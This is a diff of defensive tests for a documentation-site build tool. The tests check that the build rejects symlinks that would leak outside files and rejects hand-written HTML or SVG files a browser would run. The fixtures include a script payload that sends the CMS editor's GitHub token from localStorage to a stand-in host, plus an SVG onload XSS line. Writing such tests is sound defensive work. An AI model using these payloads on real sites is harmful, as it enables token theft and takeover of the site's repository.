@@ -178,3 +178,57 @@ def test_docs_holds_no_link_to_write_or_delete_through(project: Path) -> None:
     assert victim.read_text("utf-8") == '["gioi-thieu.md"]'
     assert (project / "docs" / "gioi-thieu.md").is_file()
     assert not (project / "docs" / MANIFEST).is_symlink()
+
+
+LINK = (
+    ":1:1: error: file: đây là liên kết tượng trưng (symlink), không được đọc; hãy thay bằng"
+    " tệp hoặc thư mục thật, hoặc xóa nó — this is a symbolic link, which is never followed;"
+    " replace it with the real file or folder, or remove it"
+)
+
+
+def test_the_build_publishes_nothing_through_a_link_at_docs_or_in_theme(project: Path) -> None:
+    """``docs`` as a link to another folder was written into (every generated page) and
+    published whole, and a link in ``theme/`` (MkDocs copies the theme's files into the
+    site) published the file it names: any file of the machine that builds the site."""
+    secret = project.parent / "secret.txt"
+    secret.write_text("bí mật", "utf-8")
+    (project / "theme" / "overrides" / "assets" / "k.txt").symlink_to(secret)
+    code, _, err = run_main("--root", str(project), "build")
+    assert (code, err.splitlines()[0]) == (1, "theme/overrides/assets/k.txt" + LINK)
+    assert not (project / "site").exists()
+    (project / "theme" / "overrides" / "assets" / "k.txt").unlink()
+    outside = project.parent / "outside"
+    (project / "docs").rename(outside)
+    (project / "docs").symlink_to(outside, target_is_directory=True)
+    before = sorted(outside.rglob("*"))
+    code, _, err = run_main("--root", str(project), "build")
+    assert (code, err.splitlines()[0]) == (1, "docs" + LINK)
+    assert sorted(outside.rglob("*")) == before  # nothing written there
+    assert not (project / "site").exists()
+
+
+RUNS = (
+    ":1:1: error: file: trình duyệt chạy tệp này như một trang hay một chương trình, trên chính"
+    " tên miền của trang và không có chính sách bảo mật nội dung (CSP): nó đọc được mọi thứ của"
+    " trang, kể cả khóa GitHub của trình soạn thảo web; trang viết tay là tệp Markdown (.md),"
+    " hãy đưa nội dung vào một trang .md hoặc xóa tệp — a browser runs this file as a page or a"
+    " program, on the site's own origin and without its Content-Security-Policy: it can read"
+    " everything of the site, the web editor's GitHub token included; hand-written pages are"
+    " Markdown (.md): move its content into a .md page, or remove the file"
+)
+
+
+def test_the_build_publishes_no_hand_written_file_a_browser_runs(project: Path) -> None:
+    """``docs/tro-giup.html`` (a pull request's "help page") was copied into the site as it
+    is: a page of the site's origin without its policy, whose script reads the officer's
+    GitHub token (``localStorage['decap-cms-user']``). No check looked at it."""
+    page = "<script>fetch('//x.example/?' + localStorage['decap-cms-user'])</script>"
+    (project / "docs" / "tro-giup.html").write_text(page, "utf-8")
+    (project / "docs" / "tai-lieu").mkdir()
+    (project / "docs" / "tai-lieu" / "mau.svg").write_text("<svg onload=alert(1)/>", "utf-8")
+    (project / "docs" / "tai-lieu" / "quy-che.pdf").write_bytes(b"%PDF-1.4")  # a document: fine
+    code, _, err = run_main("--root", str(project), "build")
+    assert code == 1
+    assert err.splitlines()[:2] == ["docs/tai-lieu/mau.svg" + RUNS, "docs/tro-giup.html" + RUNS]
+    assert not (project / "site").exists()
